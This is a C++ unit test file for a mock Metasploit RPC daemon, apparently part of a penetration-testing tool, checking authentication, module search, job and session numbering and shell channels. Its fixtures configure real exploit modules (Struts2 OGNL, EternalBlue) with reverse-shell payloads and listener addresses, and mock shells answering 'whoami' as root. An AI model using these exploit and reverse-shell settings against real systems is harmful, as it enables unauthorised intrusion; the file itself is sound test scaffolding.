#include "daemon_properties.hpp"
#include "doctest.h"

using namespace pentestmcp;
using msgpack::Value;

namespace {

struct Fixture {
  std::shared_ptr<mock::FakeMsfDaemon> daemon;
  std::string token;

  explicit Fixture(const std::string& name)
      : daemon(std::make_shared<mock::FakeMsfDaemon>(testsupport::scenario(name))),
        token(daemon->dispatch({"auth.login", "msf", "x"}).get_string("token")) {}

  Value call(msgpack::Array req) {
    req.insert(req.begin() + 1, Value(token));
    return daemon->dispatch(req);
  }
};

msgpack::Value struts_options(const std::string& lhost) {
  return msgpack::make_map(
      {{"RHOSTS", "10.138.0.19"}, {"RPORT", "80"}, {"PAYLOAD", "cmd/unix/reverse_bash"}, {"LHOST", lhost}});
}

}  // namespace

TEST_SUITE("fake msf daemon") {
  TEST_CASE("calls without a valid token are refused") {
    Fixture f("struts-5638");
    Value r = f.daemon->dispatch({"core.version", "TEMPnope"});
    CHECK(r.get_string("error_message") == "Invalid Authentication Token");
    CHECK(r.get_string("error_code") == "401");
    CHECK(f.daemon->dispatch({"auth.login", "msf"}).get_string("error_message") == "Login Failed");
    CHECK(f.call({"core.version"}).get_string("version") == "6.4.0-mock");
    CHECK(f.call({"nope.method"}).get_string("error_message") == "Unknown API Call: 'nope.method'");
  }

  TEST_CASE("search needs every term and ignores case") {
    Fixture f("blue-0144");
    CHECK(f.call({"module.search", "ms17-010"}).as_array().size() == 4);
    CHECK(f.call({"module.search", "MS17_010 eternalblue"}).as_array().size() == 1);
    CHECK(f.call({"module.search", "cve-2017-0144 scanner"}).as_array().size() == 1);
    CHECK(f.call({"module.search", "eternalblue struts"}).as_array().empty());
  }

  TEST_CASE("job ids count from zero and sessions from one") {
    Fixture f("struts-5638");
    Value miss = f.call({"module.execute", "exploit", "multi/http/struts2_content_type_ognl", struts_options("1.2.3.4")});
    CHECK(miss.get_string("job_id") == "0");
    CHECK(f.daemon->session_ids().empty());
    Value hit = f.call({"module.execute", "exploit", "multi/http/struts2_content_type_ognl", struts_options("10.138.0.21")});
    CHECK(hit.get_string("job_id") == "1");
    CHECK(f.daemon->session_ids() == std::vector<std::int64_t>{1});
    f.call({"module.execute", "exploit", "multi/http/struts2_content_type_ognl", struts_options("10.138.0.21")});
    CHECK(f.daemon->session_ids() == std::vector<std::int64_t>{1, 2});
    f.call({"session.stop", 1});
    f.call({"module.execute", "exploit", "multi/http/struts2_content_type_ognl", struts_options("10.138.0.21")});
    CHECK(f.daemon->session_ids() == std::vector<std::int64_t>{2, 3});
  }

  TEST_CASE("the session list carries the tunnel from the rule") {
    Fixture f("blue-0144");
    f.call({"module.execute", "exploit", "windows/smb/ms17_010_eternalblue",
            msgpack::make_map({{"RHOSTS", "10.201.77.154"}, {"LHOST", "10.13.88.195"}})});
    Value list = f.call({"session.list"});
    REQUIRE(list.as_map().size() == 1);
    const Value& s = list.as_map()[0].second;
    CHECK(s.get_string("type") == "meterpreter");
    CHECK(s.get_string("tunnel_local") == "10.13.88.195:4444");
    CHECK(s.get_string("tunnel_peer") == "10.201.77.154:49201");
    CHECK(s.get_string("info") == "NT AUTHORITY SYSTEM @ JON-PC");
    CHECK(s.get_string("via_payload") == "payload/windows/x64/meterpreter/reverse_tcp");
  }

  TEST_CASE("channels refuse the other session kind") {
    Fixture f("struts-5638");
    f.call({"module.execute", "exploit", "multi/http/struts2_content_type_ognl", struts_options("10.138.0.21")});
    CHECK(f.call({"session.meterpreter_write", 1, "getuid"}).get_string("error_message") ==
          "Session 1 is not a meterpreter session");
    CHECK(f.call({"session.shell_write", 1, "whoami\n"}).get_string("write_count") == "7");
    CHECK(f.call({"session.shell_read", 1}).get_string("data") == "root\n");
    CHECK(f.call({"session.shell_read", 1}).get_string("data").empty());
    CHECK(f.call({"session.shell_write", 5, "id\n"}).get_string("error_message") == "Unknown Session ID 5");
  }

  TEST_CASE("randomized sequences respect the session invariants") {
    auto report = testsupport::run_daemon_sequences(600, 0x5eed0144);
    for (const auto& v : report.violations) FAIL_CHECK(v);
    CHECK(report.sequences == 600);
    CHECK(report.sessions_opened > 100);
    CHECK(report.executes > report.sessions_opened);
    CHECK(report.unknown_id_probes > 500);
    CHECK(report.interacts > 300);
  }
}
